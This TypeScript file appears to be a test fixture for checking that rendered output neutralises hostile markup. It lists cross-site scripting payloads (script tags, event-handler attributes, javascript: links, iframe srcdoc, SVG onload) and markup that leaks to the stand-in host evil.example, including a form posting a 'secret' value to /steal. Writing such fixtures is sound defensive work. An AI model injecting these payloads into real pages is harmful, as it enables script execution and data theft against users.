// Markup that would run, navigate or phone home if a page rendered it as HTML. Every payload,
// if it ran, would set window.__kon_xss, open a dialog and request /xss-ran/<n>.

const ran = (n: string) => `window.__kon_xss="${n}";alert("xss ${n}");fetch("/xss-ran/${n}")`;

export const EXFIL_HOST = "evil.example";

export const HOSTILE_KONTASK_OUTPUT = [
  "<h2>Quarterly report</h2><p>Figures below.</p>",
  `<script>${ran("script")}</script>`,
  `<img src="x" onerror='${ran("img-onerror")}'>`,
  `<a id="js-link" href='javascript:${ran("js-link")}'>open the report</a>`,
  `<a id="js-link-mixed" href='JaVaScRiPt:${ran("js-link-mixed")}'>open again</a>`,
  `<iframe src='javascript:${ran("iframe-js")}'></iframe>`,
  `<iframe srcdoc='<script>${ran("iframe-srcdoc")}</script>'></iframe>`,
  `<form action="https://${EXFIL_HOST}/steal" method="post"><input name="q" value="secret"><button id="form-submit">Send</button></form>`,
  `<svg onload='${ran("svg-onload")}'><circle r="5"></circle></svg>`,
  `<meta http-equiv="refresh" content="0;url=https://${EXFIL_HOST}/refresh">`,
  `<div style="background-image:url(https://${EXFIL_HOST}/inline-style.png)">inline style</div>`,
  `<style>body{background-image:url("https://${EXFIL_HOST}/style-element.png")}</style>`,
  `<link rel="stylesheet" href="https://${EXFIL_HOST}/sheet.css">`,
  `<img src="https://${EXFIL_HOST}/pixel.png">`,
  `<object data="https://${EXFIL_HOST}/object"></object>`,
  `<embed src="https://${EXFIL_HOST}/embed">`,
  `<base href="https://${EXFIL_HOST}/">`,
  `<details open ontoggle='${ran("details-ontoggle")}'><summary>more</summary></details>`,
  `<body onload='${ran("body-onload")}'>`,
].join("\n");

/** For titles, message text and tool input: short enough for one line, nasty enough to matter. */
export const HOSTILE_TEXT = `<img src=x onerror='${ran("text-img")}'><script>${ran("text-script")}</script><svg onload='${ran("text-svg")}'>`;

export const HOSTILE_LINK = `[click me](javascript:${ran("markdown-link")})`;
